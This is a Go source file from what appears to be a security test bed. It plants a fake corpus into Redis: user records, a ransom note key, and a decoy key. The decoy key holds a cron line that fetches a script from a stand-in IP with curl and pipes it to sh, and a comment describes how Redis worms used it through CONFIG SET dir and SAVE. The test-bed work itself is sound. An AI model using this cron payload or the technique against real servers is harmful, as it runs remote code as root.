package testbed

import (
	"context"
	"fmt"
	"strconv"
)

// Where the corpus goes in each Debian store's open configuration.
const (
	// redisCorpusDB is the keyspace holding the people (hashes
	// "user:<id>"), the ransom note (a string key named RansomName) and
	// the cron line the Redis cron-write attack leaves ("backup1").
	redisCorpusDB = 2
	// RedisCronLine is what the 2016–2020 Redis worms wrote into a key
	// before CONFIG SET dir /var/spool/cron; SAVE. Planted, never run: the
	// test bed's Redis has no cron and saves nothing.
	RedisCronLine = "\n\n*/1 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n\n"
)

// plantRedisCorpus writes the corpus into redisCorpusDB and returns the
// keys it holds.
func (s *Server) plantRedisCorpus(ctx context.Context) (uint64, error) {
	c, err := s.adminConn(ctx)
	if err != nil {
		return 0, err
	}
	defer c.Close()
	cmds := [][]string{{"SELECT", strconv.Itoa(redisCorpusDB)}}
	for _, p := range People {
		cmd := []string{"HSET", "user:" + p.ID}
		for _, f := range p.Fields() {
			cmd = append(cmd, f[0], f[1])
		}
		cmds = append(cmds, cmd)
	}
	cmds = append(cmds, []string{"SET", RansomName, RansomMessage}, []string{"SET", "backup1", RedisCronLine})
	if err := c.pipeline(cmds); err != nil {
		return 0, fmt.Errorf("redis plant corpus on %s: %w", s.Addr, err)
	}
	n := uint64(len(People) + 2)
	size, err := c.do("DBSIZE")
	if err != nil {
		return 0, err
	}
	if size != strconv.FormatUint(n, 10) {
		return 0, fmt.Errorf("redis corpus db on %s holds %s keys, planted %d", s.Addr, size, n)
	}
	return n, nil
}
